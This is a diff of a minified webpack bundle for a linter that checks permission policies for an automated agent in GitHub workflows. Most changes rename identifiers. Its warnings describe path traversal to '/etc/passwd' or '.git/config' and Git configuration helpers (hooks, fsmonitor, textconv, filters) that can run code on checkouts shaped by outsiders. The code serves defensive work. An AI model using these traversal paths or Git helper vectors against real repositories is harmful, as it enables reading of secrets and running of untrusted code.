@@ -11,23 +11,23 @@ export const modules = {
 		var _nearest_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(42037), _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(55635), _policy_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(8157), _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(33492), _warning_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(83453);
 		let heads = {
 			refs: ["refs/heads/"],
-			pullRequest: !1
+			mayHavePullRequest: !1
 		}, headsOrTags = {
 			refs: ["refs/heads/", "refs/tags/"],
-			pullRequest: !1
-		}, pull = {
+			mayHavePullRequest: !1
+		}, pullRequestRefs = {
 			refs: ["refs/pull/"],
-			pullRequest: !0
-		}, commented = {
+			mayHavePullRequest: !0
+		}, headsWithPullRequest = {
 			refs: ["refs/heads/"],
-			pullRequest: !0
+			mayHavePullRequest: !0
 		}, events = new Map([
-			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("pull_request pull_request_review pull_request_review_comment", pull),
-			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("pull_request_target issue_comment issues workflow_run check_run check_suite", commented),
+			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("pull_request pull_request_review pull_request_review_comment", pullRequestRefs),
+			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("pull_request_target issue_comment issues workflow_run check_run check_suite", headsWithPullRequest),
 			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("push create deployment deployment_status workflow_dispatch workflow_call status", headsOrTags),
 			["release", {
 				refs: ["refs/tags/"],
-				pullRequest: !1
+				mayHavePullRequest: !1
 			}],
 			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("branch_protection_rule delete discussion discussion_comment fork gollum image_version label merge_group milestone page_build project project_card project_column public registry_package repository_dispatch schedule watch", heads)
 		]), trustedEvents = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.y)("push schedule workflow_dispatch repository_dispatch merge_group release create delete deployment deployment_status");
@@ -35,7 +35,7 @@ export const modules = {
 			return (when.find(({ key }) => key === "event")?.matcher.test)?.listed?.every((value) => trustedEvents.has(String(value))) === !0;
 		}
 		function lintWhen(policy) {
-			let { guards, rules, questions, changes = [] } = policy, entries = (0, _policy_js__WEBPACK_IMPORTED_MODULE_1__.Mc)(policy);
+			let { guards, rules, questions, changes = [] } = policy, entries = (0, _policy_js__WEBPACK_IMPORTED_MODULE_1__.Rq)(policy);
 			return [
 				...entries.flatMap(lintEvents),
 				...entries.flatMap(lintContradictions),
@@ -51,31 +51,31 @@ export const modules = {
 			return inner.listed === void 0 ? [...events.keys(), "unknown"].some((event) => (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(condition.matcher, event, "when")) ? [] : [(0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(condition.at, "unknown-event", `No GitHub event matches "event" of "${entry.id}".`)] : inner.listed.filter((value) => typeof value == "string" && value !== "unknown" && !events.has(value)).map((value) => (0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(condition.at, "unknown-event", unknownEventMessage(String(value))));
 		}
 		function unknownEventMessage(event) {
-			let near = (0, _nearest_js__WEBPACK_IMPORTED_MODULE_4__.p)(event, [...events.keys()]);
+			let near = (0, _nearest_js__WEBPACK_IMPORTED_MODULE_4__.q)(event, [...events.keys()]);
 			return `GitHub has no event "${event}".${near === void 0 ? "" : ` Did you mean "${near}"?`}`;
 		}
 		function lintContradictions(entry) {
 			let event = entry.when.find((each) => each.key === "event"), possible = [...events].filter(([name]) => event === void 0 || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(event.matcher, name, "when"));
 			if (event === void 0 || possible.length === 0 || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(event.matcher, "unknown", "when")) return [];
-			let others = entry.when.filter((each) => each !== event), failing = others.find((each) => !possible.some(([, fact]) => canHave(each, fact)));
-			if (possible.some(([, fact]) => others.every((each) => canHave(each, fact)))) return [];
-			let condition = failing ?? event, names = possible.slice(0, 4).map(([name]) => name), message = `"${entry.id}" never matches: no run for ${names.join(", ")} has this "${condition.key}".`;
+			let others = entry.when.filter((each) => each !== event);
+			if (possible.some(([, facts]) => others.every((each) => canMeet(each, facts)))) return [];
+			let condition = others.find((each) => !possible.some(([, facts]) => canMeet(each, facts))) ?? event, names = possible.slice(0, 4).map(([name]) => name), message = `"${entry.id}" never matches: no run for ${names.join(", ")} has this "${condition.key}".`;
 			return [(0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(condition.at, "contradictory-when", message)];
 		}
-		function canHave(condition, fact) {
+		function canMeet(condition, facts) {
 			let { key, matcher } = condition;
-			return (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(matcher, "unknown", "when") ? !0 : key === "ref" ? fact.refs.some((beginning) => mayBegin(matcher, beginning)) : key === "base_ref" ? fact.pullRequest || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(matcher, "", "when") : key === "draft" || key === "fork" ? fact.pullRequest || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(matcher, !1, "when") : !0;
+			return (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(matcher, "unknown", "when") ? !0 : key === "ref" ? facts.refs.some((beginning) => acceptsBeginning(matcher, beginning)) : key === "base_ref" ? facts.mayHavePullRequest || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(matcher, "", "when") : key === "draft" || key === "fork" ? facts.mayHavePullRequest || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(matcher, !1, "when") : !0;
 		}
-		function mayBegin(matcher, beginning) {
+		function acceptsBeginning(matcher, beginning) {
 			let { test } = matcher;
 			if (test.listed !== void 0) return test.listed.some((value) => typeof value == "string" && value.startsWith(beginning));
 			if (test.type !== "glob") return !0;
 			let first = test.glob.pieces[0];
 			return typeof first != "object" || first.text.startsWith(beginning) || beginning.startsWith(first.text) && test.glob.pieces.length > 1;
 		}
-		function lintUnknowns(guard, noun) {
-			return guard.when.filter((condition) => condition.key !== "event" && !(0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(condition.matcher, "unknown", "when")).map(({ at, key }) => {
-				let message = `The ${noun} "${guard.id}" does not match when "${key}" is not known. Add the word "unknown" to its values.`;
+		function lintUnknowns(entry, noun) {
+			return entry.when.filter((condition) => condition.key !== "event" && !(0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(condition.matcher, "unknown", "when")).map(({ at, key }) => {
+				let message = `The ${noun} "${entry.id}" does not match when "${key}" is not known. Add the word "unknown" to its values.`;
 				return (0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(at, "guard-misses-unknown", message);
 			});
 		}
@@ -90,7 +90,7 @@ export const modules = {
 	}),
 	37152: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 		__webpack_require__.d(__webpack_exports__, { u: () => lint });
-		var guarded = __webpack_require__(2244), permission_policy = __webpack_require__(8157), position = __webpack_require__(35032), conditions = __webpack_require__(55635), tests = __webpack_require__(89992), programs = __webpack_require__(22496), text_glob = __webpack_require__(47141), word_list = __webpack_require__(33492), open_ended = __webpack_require__(79092), warning = __webpack_require__(83453);
+		var change_guarded = __webpack_require__(2244), permission_policy = __webpack_require__(8157), position = __webpack_require__(35032), conditions = __webpack_require__(55635), tests = __webpack_require__(89992), programs = __webpack_require__(22496), text_glob = __webpack_require__(47141), word_list = __webpack_require__(33492), open_ended = __webpack_require__(79092), warning = __webpack_require__(83453);
 		function* lintPaths({ id, match }) {
 			for (let condition of match) {
 				let { key, at, matcher } = condition;
@@ -98,7 +98,7 @@ export const modules = {
 					let message = `"${id}" allows a "${key}" that climbs out of its folder, such as "src/../.git/config". Use "path".`;
 					yield (0, warning.R8)(at, "path-may-climb", message);
 				}
-				for (let { pattern } of (0, tests.AN)(matcher.test).filter(commandMayClimb)) {
+				for (let { pattern } of (0, tests.M3)(matcher.test).filter(commandMayClimb)) {
 					let message = `"${id}" allows ${JSON.stringify(pattern)}, also with a path that climbs out of the folder, such as "src/../.git/config" or "/etc/passwd". Write "{path:src/**}" for the word.`;
 					yield (0, warning.R8)(at, "path-may-climb", message);
 				}
@@ -111,7 +111,7 @@ export const modules = {
 			let text = test.pattern ?? "";
 			return text.includes("://") || !pathKey.test(key) && !text.includes("/") ? !1 : (test.type === "glob" ? climbingTexts(test.glob) : guessClimbingTexts(text)).some((value) => (0, conditions.cK)(matcher, value, "rule"));
 		}
-		let climbingPieces = [
+		let fillers = [
 			"/../x",
 			"../x",
 			"..",
@@ -120,8 +120,8 @@ export const modules = {
 			"/"
 		];
 		function climbingTexts(glob) {
-			let at = glob.pieces.indexOf("run"), writePiece = (climb) => (piece, index) => typeof piece == "object" ? piece.text : at === -1 || index === at ? climb : "x";
-			return (at === -1 ? ["."] : climbingPieces).map((climb) => glob.pieces.map(writePiece(climb)).join("")).filter((text) => isClimbing(text) && (0, text_glob.mw)(glob, text));
+			let firstStar = glob.pieces.indexOf("run"), fill = (filler) => glob.pieces.map((piece, index) => typeof piece == "object" ? piece.text : firstStar === -1 || index === firstStar ? filler : "x").join("");
+			return (firstStar === -1 ? ["."] : fillers).map(fill).filter((text) => isClimbing(text) && (0, text_glob.mw)(glob, text));
 		}
 		function isClimbing(text) {
 			return text.startsWith("/") || text.split("/").includes("..");
@@ -148,7 +148,7 @@ export const modules = {
 		function commandMayClimb({ tokens, open }) {
 			let [first, ...words] = tokens, program = (0, open_ended.bK)(first);
 			if (program === void 0) return !1;
-			let name = (0, programs.kX)(program), isFileProgram = filePrograms.has(name) || filePrograms.has(`${name}-${(0, open_ended.bK)(words[0]) ?? ""}`);
+			let name = (0, programs.CF)(program), isFileProgram = filePrograms.has(name) || filePrograms.has(`${name}-${(0, open_ended.bK)(words[0]) ?? ""}`);
 			return isFileProgram && open || words.some((word) => wordMayClimb(word, isFileProgram));
 		}
 		function wordMayClimb(word, isFileProgram) {
@@ -163,15 +163,15 @@ export const modules = {
 		]);
 		function* lintCommandFolder(rule, policy) {
 			if (rule.limits?.target !== "command" || !acceptsCommands(rule)) return;
-			let writer = writerIn(policy)?.id;
+			let writerId = findWriter(policy)?.id;
 			for (let condition of rule.match) {
 				let { key, at, matcher } = condition;
-				if (writer !== void 0 && opensFolder(rule, condition)) {
-					let message = `"${rule.id}" lets commands run in other folders than the root, and "${writer}" lets files be written. What is written there may be what runs. Leave "${key}" out, or name one folder that nothing may write to.`;
+				if (writerId !== void 0 && opensFolder(rule, condition)) {
+					let message = `"${rule.id}" lets commands run in other folders than the root, and "${writerId}" lets files be written. What is written there may be what runs. Leave "${key}" out, or name one folder that nothing may write to.`;
 					yield (0, warning.R8)(at, "command-elsewhere", message);
 				}
-				for (let { pattern } of writer === void 0 ? [] : findFolderChoices((0, tests.AN)(matcher.test))) {
-					let message = `"${rule.id}" allows ${JSON.stringify(pattern)}, by which a command runs in a folder of the intern's choice, and "${writer}" lets files be written. What is written there may be what runs. Name the folder.`;
+				for (let { pattern } of writerId === void 0 ? [] : findFolderChoices((0, tests.M3)(matcher.test))) {
+					let message = `"${rule.id}" allows ${JSON.stringify(pattern)}, by which a command runs in a folder of the intern's choice, and "${writerId}" lets files be written. What is written there may be what runs. Name the folder.`;
 					yield (0, warning.R8)(at, "command-elsewhere", message);
 				}
 				if (key === "/env" && !isAbsence(condition)) {
@@ -233,36 +233,36 @@ export const modules = {
 		function pinsRoot({ key, matcher: { test } }) {
 			return key === "/inside" && test.listed?.every((folder) => folder === ".") === !0;
 		}
-		function writerIn({ rules }) {
+		function findWriter({ rules }) {
 			return rules.find((rule) => (0, permission_policy.kG)(rule.verb) && accepts(rule, "command", void 0) && accepts(rule, "tool", "fs.write") && accepts(rule, "operation", "fs.write"));
 		}
 		function acceptsCommands(rule) {
-			return conditionsOn(rule, "command").every(({ matcher: { test } }) => test.takesMissing !== !0);
+			return findConditions(rule, "command").every(({ matcher: { test } }) => test.takesMissing !== !0);
 		}
 		function accepts(rule, field, value) {
-			return conditionsOn(rule, field).every(({ matcher }) => (0, conditions.cK)(matcher, value, "rule"));
+			return findConditions(rule, field).every(({ matcher }) => (0, conditions.cK)(matcher, value, "rule"));
 		}
-		function conditionsOn({ match }, field) {
+		function findConditions({ match }, field) {
 			return match.filter(({ key }) => key === field || key === `/${field}`);
 		}
 		var events = __webpack_require__(17768), words = __webpack_require__(91703);
-		function* lintGit(rule, mayBeFork) {
-			if (!isShapedByInsiders(rule, mayBeFork)) for (let condition of rule.match) for (let { text, words } of listCommands(condition)) {
-				let args = findGitWords(words), open = findHelpers(args);
-				open.length > 0 && (yield (0, warning.R8)(condition.at, "git-runs-configuration", message(rule, text, args, open)));
+		function* lintGit(rule, isOpenToForks) {
+			if (!isShapedByInsiders(rule, isOpenToForks)) for (let condition of rule.match) for (let { text, words } of listCommands(condition)) {
+				let args = findGitArguments(words), possible = findHelpers(args);
+				possible.length > 0 && (yield (0, warning.R8)(condition.at, "git-runs-configuration", message(rule, text, args, possible)));
 			}
 		}
-		function findGitWords([program, ...args]) {
+		function findGitArguments([program, ...args]) {
 			if (program === void 0) return [];
-			if ((0, programs.mw)(program) === "git") return args;
+			if ((0, programs.nH)(program) === "git") return args;
 			if (!(0, programs.v7)(program)) return [];
-			let at = args.findIndex((word) => word !== void 0 && (0, programs.mw)(word) === "git");
+			let at = args.findIndex((word) => word !== void 0 && (0, programs.nH)(word) === "git");
 			return at === -1 ? args.some((word) => /(?:^|[^\w.-])git\s/iu.test(word ?? "")) ? [void 0] : [] : args.slice(at + 1);
 		}
-		function isShapedByInsiders({ when }, mayBeFork) {
+		function isShapedByInsiders({ when }, isOpenToForks) {
 			if ((0, events.wM)(when)) return !0;
 			let permission = when.find(({ key }) => key === "actor.permission");
-			return permission === void 0 || mayBeFork ? !1 : ![
+			return permission === void 0 || isOpenToForks ? !1 : ![
 				"none",
 				"read",
 				"triage",
@@ -276,15 +276,15 @@ export const modules = {
 			}));
 			let prefix = key === "operation" || key === "/operation" ? "shell command: " : "";
 			return test.type !== "values" || prefix === "" && key !== "command" && key !== "/command" ? [] : test.listed.filter((value) => typeof value == "string").filter((text) => text.startsWith(prefix)).flatMap((text) => {
-				let reading = (0, words.u)(text.slice(prefix.length), { pattern: !1 });
+				let reading = (0, words.u)(text.slice(prefix.length), { isPattern: !1 });
 				return "error" in reading ? [] : reading.commands.map((words) => ({
-					text: words.map((word) => word.quoted ? `'${word.text}'` : word.text).join(" "),
+					text: words.map((word) => word.isQuoted ? `'${word.text}'` : word.text).join(" "),
 					words: words.map((word) => word.text)
 				}));
 			});
 		}
-		function message(rule, text, args, open) {
-			let names = open.map(({ name }) => name).join(", "), safer = saferSpelling(text, args, open), stays = open.filter(({ instead }) => instead === void 0).map(({ name }) => name), remedies = [...safer === void 0 ? [] : [`Write ${JSON.stringify(safer)}.`], ...stays.length === 0 ? [] : [`No option stops ${stays.join(", ")}: ${lastRemedy(args)}`]];
+		function message(rule, text, args, possible) {
+			let names = possible.map(({ name }) => name).join(", "), spelling = writeSafely(text, args, possible), unstoppable = possible.filter((helper) => helper.preventedBy === void 0).map(({ name }) => name), remedies = [...spelling === void 0 ? [] : [`Write ${JSON.stringify(spelling)}.`], ...unstoppable.length === 0 ? [] : [`No option stops ${unstoppable.join(", ")}: ${lastRemedy(args)}`]];
 			return `"${rule.id}" allows ${JSON.stringify(text)} where outsiders may have shaped the checkout, and its configuration can make Git run ${names}. ${remedies.join(" ")}`;
 		}
 		function lastRemedy(args) {
@@ -294,59 +294,59 @@ export const modules = {
 		let helpers = {
 			pager: {
 				name: "a pager (core.pager)",
-				instead: { before: "--no-pager" }
+				preventedBy: { globalOption: "--no-pager" }
 			},
 			fetch: {
 				name: "a fetch of objects that are missing (core.sshCommand)",
-				instead: { before: "--no-lazy-fetch" }
+				preventedBy: { globalOption: "--no-lazy-fetch" }
 			},
 			fsmonitor: {
 				name: "a file monitor (core.fsmonitor)",
-				instead: { before: "-c core.fsmonitor=false" }
+				preventedBy: { globalOption: "-c core.fsmonitor=false" }
 			},
 			hooks: {
 				name: "hooks (core.hooksPath)",
-				instead: { before: "-c core.hooksPath=/dev/null" }
+				preventedBy: { globalOption: "-c core.hooksPath=/dev/null" }
 			},
 			external: {
 				name: "an external diff (diff.external)",
-				instead: { behind: "--no-ext-diff" }
+				preventedBy: { option: "--no-ext-diff" }
 			},
 			textconv: {
 				name: "a text conversion (diff.NAME.textconv)",
-				instead: { behind: "--no-textconv" }
+				preventedBy: { option: "--no-textconv" }
 			},
 			signature: {
 				name: "a signature check (gpg.program)",
-				instead: { behind: "--no-show-signature" }
+				preventedBy: { option: "--no-show-signature" }
 			},
 			format: {
 				name: "a signature check by a format (format.pretty)",
-				instead: { behind: "--pretty=medium" }
+				preventedBy: { option: "--pretty=medium" }
 			},
 			submodule: {
 				name: "an external diff of a submodule (diff.submodule)",
-				instead: { behind: "--submodule=short" }
+				preventedBy: { option: "--submodule=short" }
 			},
 			merge: {
 				name: "a merge driver (log.diffMerges)",
-				instead: { before: "-c log.diffMerges=separate" }
+				preventedBy: { globalOption: "-c log.diffMerges=separate" }
 			},
 			sorting: {
 				name: "a signature check by a key to sort by (branch.sort)",
-				instead: { behind: "--no-sort" }
+				preventedBy: { option: "--no-sort" }
 			},
 			namesake: {
 				name: "filters of a file that has the name of the comparison",
-				instead: { end: "--" }
+				preventedBy: { ending: "--" }
 			},
 			filters: {
 				name: "filters (filter.NAME.clean)",
-				instead: void 0
+				preventedBy: void 0
 			},
 			others: {
 				name: "hooks, filters, aliases and helpers for editing and fetching",
-				instead: void 0
+				preventedBy: void 0
 			}
 		}, usual = [
 			"pager",
@@ -381,32 +381,32 @@ export const modules = {
 			...(0, word_list.u)("remote var", ["pager"]),
 			["rev-parse", ["fetch", "fsmonitor"]],
 			["version", []]
-		]), byOption = new Map([
+		]), byHelperOption = new Map([
 			...(0, word_list.u)("cat-file grep", {
 				option: /^--textconv$/u,
-				runs: "textconv"
+				helper: "textconv"
 			}),
 			["ls-files", {
 				option: /^(?:-[a-zA-Z]*m[a-zA-Z]*|--modified|--eol)$/u,
-				runs: "filters"
+				helper: "filters"
 			}],
 			["describe", {
 				option: /^--dirty(?:=|$)/u,
-				runs: "filters"
+				helper: "filters"
 			}],
 			...(0, word_list.u)("log show", {
 				option: /^(?:-m|--diff-merges=(?:on|m))$/u,
-				runs: "merge"
+				helper: "merge"
 			})
-		]), known = (0, word_list.y)("abbrev abbrev-commit abbrev-ref after all always ancestry-path author batch batch-all-objects batch-check before binary boundary branch branches buffer cached check cherry cherry-mark cherry-pick color color-words column combined-all-paths committer compact-summary contains context count date date-order decorate deleted diff-algorithm diff-filter dirty email eol error-unmatch exact-match exclude exclude-standard exit-code ext-diff extended-regexp files-with-matches files-without-match find-copies find-renames first-parent fixed-strings follow full-index full-name full-tree function-context git-dir graph grep heading heads histogram ignore-all-space ignore-blank-lines ignore-case ignore-space-change ignored indexed-objects invert-grep invert-match is-ancestor is-inside-work-tree left-right line-number line-porcelain local-refs long match max-count max-depth merge merge-base merged merges minimal modified name-only name-status null numbered numstat object-only objects octopus others patch patch-with-stat patience perl-regexp points-at porcelain quiet raw recurse-submodules refs regexp-ignore-case relative remotes renames reverse root short shortstat show-cdup show-prefix show-signature show-toplevel since skip sort source sq stage staged stat stdin submodule summary symbolic symbolic-full-name tags textconv topo-order unified unmerged until untracked untracked-files verify walk word-diff word-regexp"), knownFormat = /^--(?:oneline|pretty|(?:format|pretty)=(?:(?:oneline|short|medium|full|fuller|reference|email|mboxrd|raw)|(?!.*%[-+ ]?G)(?:t?format:.*|.*%.*)))$/su, formatOption = /^--(?:oneline$|(?:format|pretty)(?:=|$))/u, submoduleOption = /^--submodule(?:=|$)/u, signatureOption = /^--(?:no-)?show-signature$/u, mergesOption = /^--diff-merges=(?:on|m|off|none|1|first-parent|separate|c|combined|cc|dense-combined)$|^--no-diff-merges$/u;
-		function isKnown(subcommand, option) {
-			return formatOption.test(option) && (subcommand === "log" || subcommand === "show") ? !0 : /signature/u.test(option) ? signatureOption.test(option) : formatOption.test(option) ? knownFormat.test(option) : option.startsWith("--") ? mergesOption.test(option) || known.has(option.replace(/^--(?:no-)?|=.*/gsu, "")) : !option.includes("O");
+		]), plainOptions = (0, word_list.y)("abbrev abbrev-commit abbrev-ref after all always ancestry-path author batch batch-all-objects batch-check before binary boundary branch branches buffer cached check cherry cherry-mark cherry-pick color color-words column combined-all-paths committer compact-summary contains context count date date-order decorate deleted diff-algorithm diff-filter dirty email eol error-unmatch exact-match exclude exclude-standard exit-code ext-diff extended-regexp files-with-matches files-without-match find-copies find-renames first-parent fixed-strings follow full-index full-name full-tree function-context git-dir graph grep heading heads histogram ignore-all-space ignore-blank-lines ignore-case ignore-space-change ignored indexed-objects invert-grep invert-match is-ancestor is-inside-work-tree left-right line-number line-porcelain local-refs long match max-count max-depth merge merge-base merged merges minimal modified name-only name-status null numbered numstat object-only objects octopus others patch patch-with-stat patience perl-regexp points-at porcelain quiet raw recurse-submodules refs regexp-ignore-case relative remotes renames reverse root short shortstat show-cdup show-prefix show-signature show-toplevel since skip sort source sq stage staged stat stdin submodule summary symbolic symbolic-full-name tags textconv topo-order unified unmerged until untracked untracked-files verify walk word-diff word-regexp"), knownFormat = /^--(?:oneline|pretty|(?:format|pretty)=(?:(?:oneline|short|medium|full|fuller|reference|email|mboxrd|raw)|(?!.*%[-+ ]?G)(?:t?format:.*|.*%.*)))$/su, formatOption = /^--(?:oneline$|(?:format|pretty)(?:=|$))/u, submoduleOption = /^--submodule(?:=|$)/u, signatureOption = /^--(?:no-)?show-signature$/u, mergesOption = /^--diff-merges=(?:on|m|off|none|1|first-parent|separate|c|combined|cc|dense-combined)$|^--no-diff-merges$/u;
+		function isPlainOption(subcommand, option) {
+			return formatOption.test(option) && (subcommand === "log" || subcommand === "show") ? !0 : /signature/u.test(option) ? signatureOption.test(option) : formatOption.test(option) ? knownFormat.test(option) : option.startsWith("--") ? mergesOption.test(option) || plainOptions.has(option.replace(/^--(?:no-)?|=.*/gsu, "")) : !option.includes("O");
 		}
-		let asking = new Set([
+		let helperOptions = new Set([
 			"--ext-diff",
 			"--textconv",
 			"--show-signature"
-		]), listing = new Map([
+		]), listingForms = new Map([
 			["branch", listingRefs("-[arvil]+|--(?:all|remotes|verbose|show-current)")],
 			["tag", listingRefs("-[il]+|-n[0-9]*")],
 			["remote", { options: /^(?:-v|--verbose)$/u }],
@@ -415,68 +415,68 @@ export const modules = {
 		function listingRefs(forms) {
 			return {
 				options: RegExp(`^(?:${forms}|--(?:list|ignore-case|no-sort|(?:no-)?(?:color|column|contains|merged)|points-at|(?:sort|format)=(?!.*signature).*))$`, "u"),
-				names: /^(?:-l|-n[0-9]*|--(?:list|(?:no-)?(?:contains|merged)|points-at))$/u
+				operandOptions: /^(?:-l|-n[0-9]*|--(?:list|(?:no-)?(?:contains|merged)|points-at))$/u
 			};
 		}
-		let indexName = /^\{path:[*?:]|(?:^|[.^]):|^--(?:batch.*|indexed-objects|merge|shared-index-path|stdin)$/u, globalFlags = (0, word_list.y)("--no-pager -P --no-lazy-fetch --no-optional-locks --no-replace-objects --no-advice --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs");
+		let indexWord = /^\{path:[*?:]|(?:^|[.^]):|^--(?:batch.*|indexed-objects|merge|shared-index-path|stdin)$/u, globalFlags = (0, word_list.y)("--no-pager -P --no-lazy-fetch --no-optional-locks --no-replace-objects --no-advice --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs");
 		function findHelpers(words) {
-			let { settings, flags, rest } = readGlobal(words), [subcommand, ...args] = rest;
+			let { settings, flags, rest } = readGlobalOptions(words), [subcommand, ...args] = rest;
 			if (subcommand === void 0) return words.every((word) => word === "--version") ? [] : [helpers.others];
-			let usually = bySubcommand.get(subcommand);
-			if (usually === void 0 || !flags.isSubsetOf(globalFlags) || !onlyLists(subcommand, args)) return [helpers.others];
-			let options = upTo(args, "--", "--end-of-options").filter((word) => word?.startsWith("-") !== !1), more = byOption.get(subcommand), asksMore = options.some((word) => word === void 0 || more?.option.test(word)), isStrange = options.some((word) => word === void 0 || !(listing.has(subcommand) || isKnown(subcommand, word))), wanted = new Set([
-				...usually,
-				...more !== void 0 && asksMore ? [more.runs] : [],
-				...isStrange ? ["others"] : []
+			let defaults = bySubcommand.get(subcommand);
+			if (defaults === void 0 || !flags.isSubsetOf(globalFlags) || !onlyLists(subcommand, args)) return [helpers.others];
+			let options = takeUntil(args, "--", "--end-of-options").filter((word) => word?.startsWith("-") !== !1), optionHelper = byHelperOption.get(subcommand), usesHelperOption = options.some((word) => word === void 0 || optionHelper?.option.test(word)), isUnusual = options.some((word) => word === void 0 || !(listingForms.has(subcommand) || isPlainOption(subcommand, word))), candidates = new Set([
+				...defaults,
+				...optionHelper !== void 0 && usesHelperOption ? [optionHelper.helper] : [],
+				...isUnusual ? ["others"] : []
 			]), isQuiet = showsNoText(subcommand, options), comparesIndex = options.some((word) => word === "--cached" || word === "--staged"), isOff = {
 				pager: flags.has("--no-pager") || flags.has("-P"),
 				fetch: flags.has("--no-lazy-fetch"),
 				fsmonitor: /^(?:false|off|no|0|)$/iu.test(settings.get("core.fsmonitor") ?? "unset") || !mayReadIndex(subcommand, args),
 				hooks: settings.get("core.hookspath") === "/dev/null",
-				external: isQuiet || isSaid(options, "--ext-diff", "--no-ext-diff") || subcommand !== "diff" && !options.includes("--ext-diff"),
-				textconv: isQuiet || isSaid(options, "--textconv", "--no-textconv"),
-				signature: isSaid(options, "--show-signature", "--no-show-signature"),
-				format: knownFormat.test(lastOf(options, formatOption)),
-				submodule: isQuiet || /^--submodule=(?:short|log)$/u.test(lastOf(options, submoduleOption)),
+				external: isQuiet || isSwitchedOff(options, "--ext-diff", "--no-ext-diff") || subcommand !== "diff" && !options.includes("--ext-diff"),
+				textconv: isQuiet || isSwitchedOff(options, "--textconv", "--no-textconv"),
+				signature: isSwitchedOff(options, "--show-signature", "--no-show-signature"),
+				format: knownFormat.test(findLastMatch(options, formatOption)),
+				submodule: isQuiet || /^--submodule=(?:short|log)$/u.test(findLastMatch(options, submoduleOption)),
 				merge: /^(?:first-parent|separate)$/u.test(settings.get("log.diffmerges") ?? ""),
 				sorting: options.includes("--no-sort"),
 				namesake: comparesIndex || args.includes("--") || !comparesCommits(args),
 				filters: subcommand === "diff" && (comparesIndex || comparesCommits(args)),
 				others: !1
 			};
-			return [...wanted].filter((name) => !isOff[name]).map((name) => helpers[name]);
+			return [...candidates].filter((name) => !isOff[name]).map((name) => helpers[name]);
 		}
-		function saferSpelling(text, words, open) {
-			let [subcommand] = readGlobal(words).rest, additions = open.flatMap(({ instead }) => instead ?? []);
+		function writeSafely(text, words, possible) {
+			let [subcommand] = readGlobalOptions(words).rest, additions = possible.flatMap(({ preventedBy }) => preventedBy ?? []);
 			if (subcommand === void 0 || additions.length === 0) return;
-			let isInTheWay = (word) => asking.has(word) || open.includes(helpers.format) && formatOption.test(word) || open.includes(helpers.submodule) && submoduleOption.test(word), [program = "", ...others] = text.split(" ").filter((word) => !isInTheWay(word)), at = others.indexOf(subcommand) + 1, args = others.slice(at), end = args.findLastIndex((word) => range.test(word) || word.startsWith("-")) + 1;
+			let isReplaced = (word) => helperOptions.has(word) || possible.includes(helpers.format) && formatOption.test(word) || possible.includes(helpers.submodule) && submoduleOption.test(word), [program = "", ...others] = text.split(" ").filter((word) => !isReplaced(word)), at = others.indexOf(subcommand) + 1, args = others.slice(at), end = args.findLastIndex((word) => commitRange.test(word) || word.startsWith("-")) + 1;
 			return [
 				program,
-				...additions.flatMap(({ before }) => before ?? []),
+				...additions.flatMap(({ globalOption }) => globalOption ?? []),
 				...others.slice(0, at),
-				...additions.flatMap(({ behind }) => behind ?? []),
+				...additions.flatMap(({ option }) => option ?? []),
 				...args.slice(0, end),
-				...additions.flatMap(({ end: ending }) => ending ?? []),
+				...additions.flatMap(({ ending }) => ending ?? []),
 				...args.slice(end)
 			].join(" ");
 		}
-		function upTo(args, ...ends) {
+		function takeUntil(args, ...ends) {
 			let end = args.findIndex((word) => word !== void 0 && ends.includes(word));
 			return end === -1 ? args : args.slice(0, end);
 		}
-		function lastOf(options, pattern) {
+		function findLastMatch(options, pattern) {
 			return options.findLast((word) => pattern.test(word ?? "")) ?? "";
 		}
 		function mayReadIndex(subcommand, args) {
-			return subcommand === "show" || bySubcommand.get(subcommand)?.includes("hooks") === !0 || upTo(args, "--").some((word) => word === void 0 || indexName.test(word) || subcommand === "log" && word.startsWith("-") && !walkOption.test(word));
+			return subcommand === "show" || bySubcommand.get(subcommand)?.includes("hooks") === !0 || takeUntil(args, "--").some((word) => word === void 0 || indexWord.test(word) || subcommand === "log" && word.startsWith("-") && !walkOption.test(word));
 		}
 		function onlyLists(subcommand, args) {
-			let forms = listing.get(subcommand);
-			if (forms === void 0) return !0;
-			let { options, names } = forms;
-			return args.every((word) => word !== void 0 && (!word.startsWith("-") || options.test(word))) ? args.every((word) => word?.startsWith("-")) || args.some((word) => names?.test(word ?? "")) : !1;
+			let form = listingForms.get(subcommand);
+			if (form === void 0) return !0;
+			let { options, operandOptions } = form;
+			return args.every((word) => word !== void 0 && (!word.startsWith("-") || options.test(word))) ? args.every((word) => word?.startsWith("-")) || args.some((word) => operandOptions?.test(word ?? "")) : !1;
 		}
-		function readGlobal(words) {
